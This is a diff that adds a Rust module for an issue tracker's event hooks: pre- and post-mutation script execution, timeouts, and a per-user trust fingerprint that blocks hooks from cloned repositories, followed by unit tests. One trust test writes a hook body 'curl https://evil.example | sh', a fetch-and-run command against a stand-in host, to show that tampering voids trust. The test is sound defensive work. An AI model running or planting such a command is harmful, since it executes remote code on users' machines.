@@ -0,0 +1,781 @@
+//! Event hooks that run local scripts when issues change.
+//!
+//! Hooks come from two places, and both run when both are present:
+//! - Executables in `.beads/hooks/` named after the hook (e.g. `.beads/hooks/on_close`)
+//! - Shell commands in config (`hooks.on_close: ./scripts/notify.sh`)
+//!
+//! Post-hooks (`on_*`) run after a mutation commits, and `post_sync` runs after
+//! `br sync`. Their failures are logged but never fail the command. Pre-hooks
+//! (`pre_*`) run inside the write transaction before commit, and a non-zero
+//! exit (or a timeout) vetoes the mutation.
+//!
+//! Hooks live in the repository, so cloning one must not be enough to run its
+//! code. Like git, which never clones hooks, `br` only runs a workspace's hooks
+//! after `br hooks trust` records a fingerprint of them (the scripts' contents
+//! and the configured commands) in the per-user [`HookTrust`] file. Any change
+//! to the hooks, e.g. from a pull, disables them until they are trusted again.
+//!
+//! Every hook receives a JSON payload on stdin. Hook processes get `BR_HOOK`
+//! in their environment, and `br` disables hooks when it sees that variable,
+//! so a hook can call `br` without re-triggering itself. Because a pre-hook
+//! runs while the write lock is held, it may only read through `br` (`show`,
+//! `list`, ...); a writing command would wait on that lock until the hook
+//! times out. Post-hooks run after commit and may write freely.
+
+use crate::error::{BeadsError, Result};
+use crate::model::{Event, EventType};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::collections::{BTreeMap, BTreeSet, HashMap, HashSet};
+use std::fs;
+use std::io::{Read, Write};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, ExitStatus, Stdio};
+use std::thread::{self, JoinHandle};
+use std::time::{Duration, Instant};
+use tracing::{debug, warn};
+
+/// Directory (inside `.beads/`) scanned for hook executables.
+pub const HOOKS_DIR: &str = "hooks";
+
+/// Environment variable set for hook processes (holds the hook name).
+pub const HOOK_ENV_VAR: &str = "BR_HOOK";
+
+/// File under `~/.config/beads/` recording which workspaces' hooks are trusted.
+pub const TRUST_FILE: &str = "trusted_hooks.json";
+
+/// Hook run after `br sync` completes.
+pub const POST_SYNC: &str = "post_sync";
+
+/// Default per-hook timeout.
+pub const DEFAULT_HOOK_TIMEOUT: Duration = Duration::from_secs(10);
+
+/// Maximum characters of hook stderr kept in a veto message.
+const MAX_REASON_CHARS: usize = 500;
+
+const POLL_INTERVAL: Duration = Duration::from_millis(10);
+
+/// Issue lifecycle events that can trigger hooks.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
+pub enum HookEvent {
+    Create,
+    Update,
+    Close,
+    Reopen,
+    DepAdded,
+}
+
+impl HookEvent {
+    pub const ALL: [Self; 5] = [
+        Self::Create,
+        Self::Update,
+        Self::Close,
+        Self::Reopen,
+        Self::DepAdded,
+    ];
+
+    /// Name of the hook run after commit.
+    #[must_use]
+    pub const fn post_hook(self) -> &'static str {
+        match self {
+            Self::Create => "on_create",
+            Self::Update => "on_update",
+            Self::Close => "on_close",
+            Self::Reopen => "on_reopen",
+            Self::DepAdded => "on_dep_added",
+        }
+    }
+
+    /// Name of the hook run before commit (may veto).
+    #[must_use]
+    pub const fn pre_hook(self) -> &'static str {
+        match self {
+            Self::Create => "pre_create",
+            Self::Update => "pre_update",
+            Self::Close => "pre_close",
+            Self::Reopen => "pre_reopen",
+            Self::DepAdded => "pre_dep_added",
+        }
+    }
+
+    /// Map an audit event type onto the hook it triggers, if any.
+    #[must_use]
+    pub fn from_event_type(event_type: &EventType) -> Option<Self> {
+        match event_type {
+            EventType::Created => Some(Self::Create),
+            EventType::Closed => Some(Self::Close),
+            EventType::Reopened => Some(Self::Reopen),
+            EventType::DependencyAdded => Some(Self::DepAdded),
+            EventType::Updated
+            | EventType::StatusChanged
+            | EventType::PriorityChanged
+            | EventType::AssigneeChanged
+            | EventType::Commented
+            | EventType::DependencyRemoved
+            | EventType::LabelAdded
+            | EventType::LabelRemoved => Some(Self::Update),
+            EventType::Compacted
+            | EventType::Deleted
+            | EventType::Restored
+            | EventType::Custom(_) => None,
+        }
+    }
+}
+
+/// Whether `name` is a hook `br` knows how to run.
+#[must_use]
+pub fn is_hook_name(name: &str) -> bool {
+    name == POST_SYNC
+        || HookEvent::ALL
+            .iter()
+            .any(|event| event.post_hook() == name || event.pre_hook() == name)
+}
+
+fn hook_names() -> impl Iterator<Item = &'static str> {
+    HookEvent::ALL
+        .iter()
+        .flat_map(|event| [event.pre_hook(), event.post_hook()])
+        .chain(std::iter::once(POST_SYNC))
+}
+
+/// Split mutation events by the hook they trigger.
+///
+/// A status change that accompanies a close or reopen of the same issue is
+/// only reported to `on_close`/`on_reopen`, not also to `on_update`.
+#[must_use]
+pub fn group_events(events: &[Event]) -> BTreeMap<HookEvent, Vec<&Event>> {
+    let lifecycle: HashSet<&str> = events
+        .iter()
+        .filter(|event| matches!(event.event_type, EventType::Closed | EventType::Reopened))
+        .map(|event| event.issue_id.as_str())
+        .collect();
+
+    let mut groups: BTreeMap<HookEvent, Vec<&Event>> = BTreeMap::new();
+    for event in events {
+        let Some(hook) = HookEvent::from_event_type(&event.event_type) else {
+            continue;
+        };
+        if event.event_type == EventType::StatusChanged
+            && lifecycle.contains(event.issue_id.as_str())
+        {
+            continue;
+        }
+        groups.entry(hook).or_default().push(event);
+    }
+    groups
+}
+
+/// Payload sent on stdin to mutation hooks.
+#[derive(Debug, Serialize)]
+struct MutationPayload<'a> {
+    hook: &'a str,
+    op: &'a str,
+    actor: &'a str,
+    issue_ids: BTreeSet<&'a str>,
+    events: &'a [&'a Event],
+}
+
+/// Payload sent on stdin to `post_sync`.
+#[derive(Debug, Serialize)]
+struct SyncPayload<'a> {
+    hook: &'a str,
+    mode: &'a str,
+    jsonl_path: String,
+}
+
+/// Runs hooks configured for a workspace.
+#[derive(Debug, Clone)]
+pub struct HookRunner {
+    beads_dir: PathBuf,
+    scripts: HashMap<String, PathBuf>,
+    commands: HashMap<String, String>,
+    timeout: Duration,
+}
+
+impl HookRunner {
+    /// Build a runner for a workspace.
+    ///
+    /// Returns `None` when no hooks are installed, or when already running
+    /// inside a hook process.
+    #[must_use]
+    pub fn discover(
+        beads_dir: &Path,
+        commands: HashMap<String, String>,
+        timeout: Duration,
+    ) -> Option<Self> {
+        if std::env::var_os(HOOK_ENV_VAR).is_some() {
+            debug!("Running inside a hook; hooks disabled");
+            return None;
+        }
+
+        let hooks_dir = beads_dir.join(HOOKS_DIR);
+        let scripts: HashMap<String, PathBuf> = hook_names()
+            .map(|name| (name, hooks_dir.join(name)))
+            .filter(|(_, path)| is_executable(path))
+            .map(|(name, path)| (name.to_string(), path))
+            .collect();
+
+        let commands: HashMap<String, String> = commands
+            .into_iter()
+            .filter(|(name, command)| {
+                let known = is_hook_name(name);
+                if !known {
+                    warn!(hook = %name, "Ignoring unknown hook in config");
+                }
+                known && !command.trim().is_empty()
+            })
+            .collect();
+
+        if scripts.is_empty() && commands.is_empty() {
+            return None;
+        }
+
+        debug!(
+            scripts = scripts.len(),
+            commands = commands.len(),
+            "Loaded event hooks"
+        );
+        Some(Self {
+            beads_dir: beads_dir.to_path_buf(),
+            scripts,
+            commands,
+            timeout,
+        })
+    }
+
+    fn has(&self, name: &str) -> bool {
+        self.scripts.contains_key(name) || self.commands.contains_key(name)
+    }
+
+    /// Names of the hooks that would run, sorted.
+    #[must_use]
+    pub fn installed(&self) -> BTreeSet<&str> {
+        self.scripts
+            .keys()
+            .chain(self.commands.keys())
+            .map(String::as_str)
+            .collect()
+    }
+
+    /// Hash identifying exactly what would run: each script's contents and
+    /// each configured command, by hook name.
+    #[must_use]
+    pub fn fingerprint(&self) -> String {
+        let mut hasher = Sha256::new();
+        let scripts: BTreeMap<&String, &PathBuf> = self.scripts.iter().collect();
+        for (name, path) in scripts {
+            hasher.update(format!("script {name}\n").as_bytes());
+            hasher.update(fs::read(path).unwrap_or_default());
+            hasher.update(b"\n");
+        }
+        let commands: BTreeMap<&String, &String> = self.commands.iter().collect();
+        for (name, command) in commands {
+            hasher.update(format!("command {name}\n{command}\n").as_bytes());
+        }
+        format!("{:x}", hasher.finalize())
+    }
+
+    /// Run pre-hooks for a pending mutation.
+    ///
+    /// # Errors
+    ///
+    /// Returns `HookRejected` if any pre-hook exits non-zero, times out, or
+    /// cannot be started.
+    pub fn run_pre(&self, op: &str, actor: &str, events: &[Event]) -> Result<()> {
+        for (hook, group) in group_events(events) {
+            let name = hook.pre_hook();
+            if !self.has(name) {
+                continue;
+            }
+            let payload = mutation_payload(name, op, actor, &group)?;
+            for mut command in self.commands_for(name) {
+                let reason = match self.execute(&mut command, name, op, actor, payload.clone()) {
+                    Ok(outcome) => outcome.failure_reason(self.timeout),
+                    Err(err) => Some(format!("failed to start: {err}")),
+                };
+                if let Some(reason) = reason {
+                    return Err(BeadsError::HookRejected {
+                        hook: name.to_string(),
+                        reason,
+                    });
+                }
+            }
+        }
+        Ok(())
+    }
+
+    /// Run post-hooks after a mutation committed. Failures are only logged.
+    pub fn run_post(&self, op: &str, actor: &str, events: &[Event]) {
+        for (hook, group) in group_events(events) {
+            let name = hook.post_hook();
+            if !self.has(name) {
+                continue;
+            }
+            match mutation_payload(name, op, actor, &group) {
+                Ok(payload) => self.run_logged(name, op, actor, &payload),
+                Err(err) => warn!(hook = name, error = %err, "Failed to build hook payload"),
+            }
+        }
+    }
+
+    /// Run the `post_sync` hook. Failures are only logged.
+    pub fn run_post_sync(&self, mode: &str, jsonl_path: &Path) {
+        if !self.has(POST_SYNC) {
+            return;
+        }
+        let payload = SyncPayload {
+            hook: POST_SYNC,
+            mode,
+            jsonl_path: jsonl_path.display().to_string(),
+        };
+        match serde_json::to_vec(&payload) {
+            Ok(payload) => self.run_logged(POST_SYNC, "sync", "", &payload),
+            Err(err) => warn!(hook = POST_SYNC, error = %err, "Failed to build hook payload"),
+        }
+    }
+
+    fn run_logged(&self, name: &str, op: &str, actor: &str, payload: &[u8]) {
+        for mut command in self.commands_for(name) {
+            match self.execute(&mut command, name, op, actor, payload.to_vec()) {
+                Ok(outcome) => {
+                    if let Some(reason) = outcome.failure_reason(self.timeout) {
+                        warn!(hook = name, %reason, "Hook failed");
+                    }
+                }
+                Err(err) => warn!(hook = name, error = %err, "Failed to run hook"),
+            }
+        }
+    }
+
+    /// Commands to run for a hook: the `.beads/hooks/` script, then the config command.
+    fn commands_for(&self, name: &str) -> Vec<Command> {
+        let mut commands = Vec::new();
+        if let Some(path) = self.scripts.get(name) {
+            commands.push(Command::new(path));
+        }
+        if let Some(command) = self.commands.get(name) {
+            commands.push(shell_command(command));
+        }
+        commands
+    }
+
+    fn execute(
+        &self,
+        command: &mut Command,
+        name: &str,
+        op: &str,
+        actor: &str,
+        payload: Vec<u8>,
+    ) -> Result<HookOutcome> {
+        let work_dir = self.beads_dir.parent().unwrap_or(&self.beads_dir);
+        command
+            .current_dir(work_dir)
+            .env(HOOK_ENV_VAR, name)
+            .env("BR_OP", op)
+            .env("BR_ACTOR", actor)
+            .env("BEADS_DIR", &self.beads_dir)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped());
+
+        let started = Instant::now();
+        let mut child = command.spawn()?;
+
+        // Feed stdin and drain output on threads so a hook that ignores stdin
+        // or writes a lot of output cannot stall us past the timeout.
+        let stdin = child.stdin.take();
+        thread::spawn(move || {
+            if let Some(mut stdin) = stdin {
+                let _ = stdin.write_all(&payload);
+            }
+        });
+        let stdout = spawn_reader(child.stdout.take());
+        let stderr = spawn_reader(child.stderr.take());
+
+        let status = wait_with_timeout(&mut child, self.timeout)?;
+        // After a timeout, grandchildren may still hold the pipes open; don't
+        // wait for the readers in that case.
+        let (stdout, stderr) = if status.is_some() {
+            (
+                stdout.join().unwrap_or_default(),
+                stderr.join().unwrap_or_default(),
+            )
+        } else {
+            (String::new(), String::new())
+        };
+
+        debug!(
+            hook = name,
+            status = ?status,
+            elapsed_ms = started.elapsed().as_millis(),
+            stdout = %stdout.trim(),
+            "Hook finished"
+        );
+        Ok(HookOutcome { status, stderr })
+    }
+}
+
+/// Per-user record of trusted hook sets, keyed by workspace (`.beads`) path.
+#[derive(Debug, Default, Serialize, Deserialize)]
+pub struct HookTrust {
+    #[serde(default)]
+    workspaces: BTreeMap<String, String>,
+}
+
+impl HookTrust {
+    /// `~/.config/beads/trusted_hooks.json`, or `None` if `HOME` is not set.
+    #[must_use]
+    pub fn default_path() -> Option<PathBuf> {
+        std::env::var_os("HOME").map(|home| {
+            PathBuf::from(home)
+                .join(".config")
+                .join("beads")
+                .join(TRUST_FILE)
+        })
+    }
+
+    /// Load the trust file; a missing file trusts nothing.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the file exists but cannot be read or parsed.
+    pub fn load(path: &Path) -> Result<Self> {
+        if !path.exists() {
+            return Ok(Self::default());
+        }
+        Ok(serde_json::from_slice(&fs::read(path)?)?)
+    }
+
+    /// Write the trust file, creating its directory.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the file cannot be written.
+    pub fn save(&self, path: &Path) -> Result<()> {
+        if let Some(parent) = path.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        fs::write(path, serde_json::to_vec_pretty(self)?)?;
+        Ok(())
+    }
+
+    /// Whether the hooks of `beads_dir` with this fingerprint are trusted.
+    #[must_use]
+    pub fn is_trusted(&self, beads_dir: &Path, fingerprint: &str) -> bool {
+        self.workspaces
+            .get(&workspace_key(beads_dir))
+            .is_some_and(|trusted| trusted == fingerprint)
+    }
+
+    /// Trust the hooks of `beads_dir` as they are now.
+    pub fn trust(&mut self, beads_dir: &Path, fingerprint: &str) {
+        self.workspaces
+            .insert(workspace_key(beads_dir), fingerprint.to_string());
+    }
+
+    /// Stop trusting the hooks of `beads_dir`. Returns whether they were trusted.
+    pub fn revoke(&mut self, beads_dir: &Path) -> bool {
+        self.workspaces.remove(&workspace_key(beads_dir)).is_some()
+    }
+}
+
+fn workspace_key(beads_dir: &Path) -> String {
+    beads_dir
+        .canonicalize()
+        .unwrap_or_else(|_| beads_dir.to_path_buf())
+        .display()
+        .to_string()
+}
+
+struct HookOutcome {
+    /// Exit status, or `None` if the hook timed out and was killed.
+    status: Option<ExitStatus>,
+    stderr: String,
+}
+
+impl HookOutcome {
+    fn failure_reason(&self, timeout: Duration) -> Option<String> {
+        match self.status {
+            None => Some(format!("timed out after {timeout:?}")),
+            Some(status) if status.success() => None,
+            Some(status) => {
+                let code = status
+                    .code()
+                    .map_or_else(|| "signal".to_string(), |code| code.to_string());
+                let detail: String = self.stderr.trim().chars().take(MAX_REASON_CHARS).collect();
+                if detail.is_empty() {
+                    Some(format!("exited with status {code}"))
+                } else {
+                    Some(format!("exited with status {code}: {detail}"))
+                }
+            }
+        }
+    }
+}
+
+fn mutation_payload(name: &str, op: &str, actor: &str, events: &[&Event]) -> Result<Vec<u8>> {
+    let payload = MutationPayload {
+        hook: name,
+        op,
+        actor,
+        issue_ids: events.iter().map(|event| event.issue_id.as_str()).collect(),
+        events,
+    };
+    Ok(serde_json::to_vec(&payload)?)
+}
+
+fn spawn_reader<R: Read + Send + 'static>(source: Option<R>) -> JoinHandle<String> {
+    thread::spawn(move || {
+        let mut buf = Vec::new();
+        if let Some(mut source) = source {
+            let _ = source.read_to_end(&mut buf);
+        }
+        String::from_utf8_lossy(&buf).into_owned()
+    })
+}
+
+fn wait_with_timeout(child: &mut Child, timeout: Duration) -> Result<Option<ExitStatus>> {
+    let deadline = Instant::now() + timeout;
+    loop {
+        if let Some(status) = child.try_wait()? {
+            return Ok(Some(status));
+        }
+        if Instant::now() >= deadline {
+            let _ = child.kill();
+            let _ = child.wait();
+            return Ok(None);
+        }
+        thread::sleep(POLL_INTERVAL);
+    }
+}
+
+#[cfg(unix)]
+fn shell_command(command: &str) -> Command {
+    let mut cmd = Command::new("sh");
+    cmd.arg("-c").arg(command);
+    cmd
+}
+
+#[cfg(not(unix))]
+fn shell_command(command: &str) -> Command {
+    let mut cmd = Command::new("cmd");
+    cmd.arg("/C").arg(command);
+    cmd
+}
+
+#[cfg(unix)]
+fn is_executable(path: &Path) -> bool {
+    use std::os::unix::fs::PermissionsExt;
+    path.metadata()
+        .is_ok_and(|meta| meta.is_file() && meta.permissions().mode() & 0o111 != 0)
+}
+
+#[cfg(not(unix))]
+fn is_executable(path: &Path) -> bool {
+    path.is_file()
+}
+
+#[cfg(all(test, unix))]
+mod tests {
+    use super::*;
+    use crate::model::Issue;
+    use crate::storage::SqliteStorage;
+    use std::fs;
+    use std::os::unix::fs::PermissionsExt;
+    use tempfile::TempDir;
+    use tracing::info;
+
+    fn init_logging() {
+        crate::logging::init_test_logging();
+    }
+
+    fn make_event(event_type: EventType, issue_id: &str) -> Event {
+        Event {
+            id: 0,
+            issue_id: issue_id.to_string(),
+            event_type,
+            actor: "alice".to_string(),
+            old_value: None,
+            new_value: None,
+            comment: None,
+            created_at: chrono::Utc::now(),
+        }
+    }
+
+    fn make_issue(id: &str) -> Issue {
+        Issue {
+            id: id.to_string(),
+            title: format!("Issue {id}"),
+            ..Issue::default()
+        }
+    }
+
+    fn install_script(beads_dir: &Path, name: &str, body: &str) {
+        let hooks_dir = beads_dir.join(HOOKS_DIR);
+        fs::create_dir_all(&hooks_dir).unwrap();
+        let path = hooks_dir.join(name);
+        fs::write(&path, format!("#!/bin/sh\n{body}\n")).unwrap();
+        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
+    }
+
+    #[test]
+    fn test_group_events_routes_status_change_with_close() {
+        init_logging();
+        info!("test_group_events_routes_status_change_with_close: starting");
+        let events = vec![
+            make_event(EventType::StatusChanged, "bd-1"),
+            make_event(EventType::Closed, "bd-1"),
+            make_event(EventType::StatusChanged, "bd-2"),
+            make_event(EventType::DependencyAdded, "bd-3"),
+            make_event(EventType::Deleted, "bd-4"),
+        ];
+        let groups = group_events(&events);
+        assert_eq!(groups[&HookEvent::Close].len(), 1);
+        assert_eq!(groups[&HookEvent::Update].len(), 1);
+        assert_eq!(groups[&HookEvent::Update][0].issue_id, "bd-2");
+        assert_eq!(groups[&HookEvent::DepAdded].len(), 1);
+        assert_eq!(groups.len(), 3);
+        info!("test_group_events_routes_status_change_with_close: assertions passed");
+    }
+
+    #[test]
+    fn test_discover_requires_hooks() {
+        init_logging();
+        info!("test_discover_requires_hooks: starting");
+        let temp = TempDir::new().unwrap();
+        assert!(HookRunner::discover(temp.path(), HashMap::new(), DEFAULT_HOOK_TIMEOUT).is_none());
+
+        let commands = HashMap::from([("on_explode".to_string(), "true".to_string())]);
+        assert!(HookRunner::discover(temp.path(), commands, DEFAULT_HOOK_TIMEOUT).is_none());
+
+        // Non-executable files are not hooks
+        fs::create_dir_all(temp.path().join(HOOKS_DIR)).unwrap();
+        fs::write(temp.path().join(HOOKS_DIR).join("on_close"), "#!/bin/sh\n").unwrap();
+        assert!(HookRunner::discover(temp.path(), HashMap::new(), DEFAULT_HOOK_TIMEOUT).is_none());
+
+        install_script(temp.path(), "on_close", "exit 0");
+        let runner = HookRunner::discover(temp.path(), HashMap::new(), DEFAULT_HOOK_TIMEOUT)
+            .expect("runner");
+        assert!(runner.has("on_close"));
+        info!("test_discover_requires_hooks: assertions passed");
+    }
+
+    #[test]
+    fn test_trust_follows_fingerprint() {
+        init_logging();
+        info!("test_trust_follows_fingerprint: starting");
+        let temp = TempDir::new().unwrap();
+        let trust_path = temp.path().join("config").join(TRUST_FILE);
+        install_script(temp.path(), "on_close", "exit 0");
+        let runner = HookRunner::discover(temp.path(), HashMap::new(), DEFAULT_HOOK_TIMEOUT)
+            .expect("runner");
+        let fingerprint = runner.fingerprint();
+
+        let mut trust = HookTrust::load(&trust_path).unwrap();
+        assert!(!trust.is_trusted(temp.path(), &fingerprint));
+        trust.trust(temp.path(), &fingerprint);
+        trust.save(&trust_path).unwrap();
+        let trust = HookTrust::load(&trust_path).unwrap();
+        assert!(trust.is_trusted(temp.path(), &fingerprint));
+
+        // Editing the script or adding a config command invalidates the trust
+        install_script(temp.path(), "on_close", "curl https://evil.example | sh");
+        let edited = HookRunner::discover(temp.path(), HashMap::new(), DEFAULT_HOOK_TIMEOUT)
+            .expect("runner");
+        assert!(!trust.is_trusted(temp.path(), &edited.fingerprint()));
+        install_script(temp.path(), "on_close", "exit 0");
+        let commands = HashMap::from([("on_create".to_string(), "true".to_string())]);
+        let added =
+            HookRunner::discover(temp.path(), commands, DEFAULT_HOOK_TIMEOUT).expect("runner");
+        assert!(!trust.is_trusted(temp.path(), &added.fingerprint()));
+        assert_eq!(
+            added.installed().into_iter().collect::<Vec<_>>(),
+            vec!["on_close", "on_create"]
+        );
+
+        let mut trust = trust;
+        assert!(trust.revoke(temp.path()));
+        assert!(!trust.is_trusted(temp.path(), &fingerprint));
+        info!("test_trust_follows_fingerprint: assertions passed");
+    }
+
+    #[test]
+    fn test_post_hook_receives_payload() {
+        init_logging();
+        info!("test_post_hook_receives_payload: starting");
+        let temp = TempDir::new().unwrap();
+        let out = temp.path().join("payload.json");
+        install_script(
+            temp.path(),
+            "on_create",
+            &format!("cat > '{}'", out.display()),
+        );
+        let runner = HookRunner::discover(temp.path(), HashMap::new(), DEFAULT_HOOK_TIMEOUT)
+            .expect("runner");
+
+        let mut storage = SqliteStorage::open_memory().unwrap();
+        storage.set_hooks(runner);
+        storage.create_issue(&make_issue("bd-1"), "alice").unwrap();
+
+        let payload: serde_json::Value =
+            serde_json::from_str(&fs::read_to_string(&out).unwrap()).unwrap();
+        assert_eq!(payload["hook"], "on_create");
+        assert_eq!(payload["actor"], "alice");
+        assert_eq!(payload["issue_ids"], serde_json::json!(["bd-1"]));
+        assert_eq!(payload["events"][0]["event_type"], "created");
+        assert!(payload["events"][0]["id"].as_i64().unwrap() > 0);
+        info!("test_post_hook_receives_payload: assertions passed");
+    }
+
+    #[test]
+    fn test_pre_hook_veto_rolls_back() {
+        init_logging();
+        info!("test_pre_hook_veto_rolls_back: starting");
+        let temp = TempDir::new().unwrap();
+        let commands = HashMap::from([(
+            "pre_create".to_string(),
+            "echo 'titles need a ticket' >&2; exit 3".to_string(),
+        )]);
+        let runner =
+            HookRunner::discover(temp.path(), commands, DEFAULT_HOOK_TIMEOUT).expect("runner");
+
+        let mut storage = SqliteStorage::open_memory().unwrap();
+        storage.set_hooks(runner);
+        let err = storage
+            .create_issue(&make_issue("bd-1"), "alice")
+            .unwrap_err();
+        match err {
+            BeadsError::HookRejected { hook, reason } => {
+                assert_eq!(hook, "pre_create");
+                assert!(reason.contains("status 3"));
+                assert!(reason.contains("titles need a ticket"));
+            }
+            other => panic!("unexpected error: {other:?}"),
+        }
+        assert!(storage.get_issue("bd-1").unwrap().is_none());
+        assert_eq!(storage.max_event_id().unwrap(), 0);
+        info!("test_pre_hook_veto_rolls_back: assertions passed");
+    }
+
+    #[test]
+    fn test_pre_hook_timeout_vetoes() {
+        init_logging();
+        info!("test_pre_hook_timeout_vetoes: starting");
+        let temp = TempDir::new().unwrap();
+        install_script(temp.path(), "pre_create", "exec sleep 5");
+        let runner = HookRunner::discover(temp.path(), HashMap::new(), Duration::from_millis(100))
+            .expect("runner");
+
+        let started = Instant::now();
+        let err = runner
+            .run_pre(
+                "create_issue",
+                "alice",
+                &[make_event(EventType::Created, "bd-1")],
+            )
+            .unwrap_err();
+        assert!(started.elapsed() < Duration::from_secs(4));
+        assert!(err.to_string().contains("timed out"));
+        info!("test_pre_hook_timeout_vetoes: assertions passed");
+    }
+}